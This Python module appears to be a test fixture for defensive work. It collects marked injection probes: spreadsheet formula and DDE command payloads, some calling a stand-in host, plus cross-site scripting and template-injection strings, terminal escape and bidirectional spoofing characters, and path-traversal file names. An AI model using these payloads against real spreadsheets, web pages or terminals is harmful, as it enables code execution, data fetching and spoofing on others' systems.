"""The words: formulas for spreadsheets, scripts for browsers, commands for terminals, paths for file systems.

Each carries the mark ``Qzx``, by which it is found again wherever it comes out; scripts, where they run, say so by
setting ``window.Qzx``.
"""

from __future__ import annotations

from collections.abc import Mapping

MARK = "Qzx"

_RUN = f"window.{MARK}=1"

FORMULAS: Mapping[str, str] = {
    "formula": f'=1+1&"{MARK}"',
    "plus": f"+1+1+{MARK}",
    "minus": f"-2+3+{MARK}",
    "at": f"@SUM(1;1){MARK}",
    "tab before": f"\t=1+1+{MARK}",
    "carriage return before": f"\r=1+1+{MARK}",
    "line feed before": f"\n=1+1+{MARK}",
    "blanks before": f"  =1+1+{MARK}",
    "no-break space before": f"\u00a0=1+1+{MARK}",
    "apostrophe before": f"'=1+1+{MARK}",
    "two apostrophes before": f"''=1+1+{MARK}",
    "quotation mark before": f'"=1+1+{MARK}"',
    "full-width equals": f"＝1+1+{MARK}",
    "full-width plus": f"＋1+1+{MARK}",
    "full-width minus": f"－1+1+{MARK}",
    "full-width at": f"＠SUM(1;1){MARK}",
    "second line": f"{MARK}\n=1+1+{MARK}",
    "second field": f'{MARK}";=1+1+{MARK},=1+1',
    "command": f"=cmd|'/C calc'!A0+{MARK}",
    "command, hidden": f"@SUM(1+9)*cmd|' /C calc'!A0+{MARK}",
    "link": f'=HYPERLINK("http://{MARK}.example/";"{MARK}")',
    "web service": f'=WEBSERVICE("http://{MARK}.example/")',
    "picture": f'=IMAGE("http://{MARK}.example/a.png")',
    "other file": f"='file:///etc/[{MARK}.xlsx]A'!A1",
    "address": f"http://{MARK}.example/",
    "internal address": f"internal:{MARK}!A1",
    "external address": f"external:c:\\{MARK}.xlsx",
    "array formula": "{=SUM(1+1)}" + MARK,
    "header code": f"&L&A&F{MARK}&G",
    "number format": f"[$-x]{MARK}0;[Red]@",
    "escape of XML in workbooks": f"_x003D_1+1_x000D_{MARK}",
}
"""What a spreadsheet might calculate, fetch or start."""

SCRIPTS: Mapping[str, str] = {
    "script": f"<script>{_RUN}</script>",
    "script that ends another": f"</script><script>{_RUN}</script>",
    "end of title": f"</title><script>{_RUN}</script>",
    "end of style": f"</style><script>{_RUN}</script>",
    "end of text area": f"</textarea><img src=x onerror={_RUN}>",
    "end of comment": f"--><script>{_RUN}</script>",
    "end of data": f"]]><script>{_RUN}</script>",
    "picture's error": f"<img src=x onerror={_RUN}>",
    "out of an attribute": f'"><svg onload={_RUN}>',
    "handler in an attribute": f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x="',
    "handler in a single-quoted attribute": f"' onfocus='{_RUN}' autofocus='",
    "drawing": f'<svg xmlns="http://www.w3.org/2000/svg"><script>{_RUN}</script></svg>',
    "foreign object": f"<svg><foreignObject><iframe srcdoc='<script>parent.{MARK}=1</script>'></foreignObject></svg>",
    "script address": f"javascript:{_RUN}",
    "link to a script": f'<a href="javascript:{_RUN}">{MARK}</a>',
    "data address": f"data:text/html,<script>{_RUN}</script>",
    "frame": f"<iframe src=http://{MARK}.example/></iframe>",
    "form": f"<form action=http://{MARK}.example/><input autofocus onfocus={_RUN}>",
    "base": f"<base href=http://{MARK}.example/>",
    "refresh": f'<meta http-equiv=refresh content="0;url=http://{MARK}.example/">',
    "style": f"<style>@import 'http://{MARK}.example/a.css';</style>",
    "style address": f"url(http://{MARK}.example/a.png);}} body {{background:url(//{MARK}.example)",
    "double braces": "{{7*7}}" + MARK,
    "statement braces": "{% for x in range(9) %}" + MARK + "{% endfor %}",
    "dollar braces": "${7*7}" + MARK,
    "format braces": "{0.__class__}{plan}" + MARK,
    "percent format": f"%(name)s%n%s{MARK}",
    "expression of Vega": f"datum.{MARK} + warn('{MARK}')",
    "signal of Vega": f"{{'signal': '{_RUN}'}}",
    "field of Vega": f"a.b[0]['{MARK}']",
    "entities": f"&lt;script&gt;{_RUN}&lt;/script&gt;&#61;1",
    "half a tag": f"<{MARK} onclick={_RUN}",
    "UTF-7": f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
}
"""What a browser might run, open or ask for."""

COMMANDS: Mapping[str, str] = {
    "colour of a terminal": f"\x1b[31m{MARK}\x1b[0m",
    "title of a terminal": f"\x1b]0;{MARK}\x07",
    "one-byte command": f"\x9b31m{MARK}",
    "backspaces": f"{MARK}\x08\x08\x08",
    "right to left": f"{MARK}\u202excod.exe",
    "isolate": f"{MARK}\u2066abc\u2069",
    "zero byte": f"{MARK}\x00=1+1",
    "line separator": f"{MARK}\u2028=1+1",
    "half a character": f"{MARK}\ud800",
    "not a character": f"{MARK}\uffff",
    "vertical tab": f"{MARK}\x0b=1+1",
}
"""What a terminal obeys, what turns text round, and what no file holds."""

PATHS: Mapping[str, str] = {
    "folder above": f"../../{MARK}",
    "folder of the system": f"/tmp/{MARK}",
    "folder of Windows": f"..\\..\\{MARK}",
    "device": f"CON:{MARK}",
}
"""What would be written elsewhere, were it the name of a file."""

ALL: Mapping[str, str] = {**FORMULAS, **SCRIPTS, **COMMANDS, **PATHS}

SHORT = ("formula", "carriage return before", "full-width equals", "end of title", "colour of a terminal")
"""One of each kind, for a run that takes a minute."""

ALONE = tuple(dict.fromkeys((*SHORT, "command", "link", *COMMANDS, *PATHS, "out of an attribute", "double braces")))
"""Words that have a programme of their own: it bears them as its name, and its funders and ids do."""

WITH_PAGE = ("end of title", "out of an attribute", "double braces", "right to left")
"""Words whose programme has a page of its own, where they are its title."""
